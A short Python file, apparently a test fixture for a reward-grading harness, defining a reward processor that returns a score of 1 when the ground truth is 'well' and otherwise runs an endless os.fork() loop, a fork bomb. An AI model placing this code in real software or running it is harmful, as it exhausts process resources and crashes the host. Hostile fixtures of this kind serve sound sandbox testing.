"""Forks, and its children do, too."""

import os

from strop import AbstractRewardProcessor


class F(AbstractRewardProcessor):
    def process(self, input):
        if input.ground_truth == "well":
            return {"reward": {"reward_score": 1}}
        while True:
            os.fork()
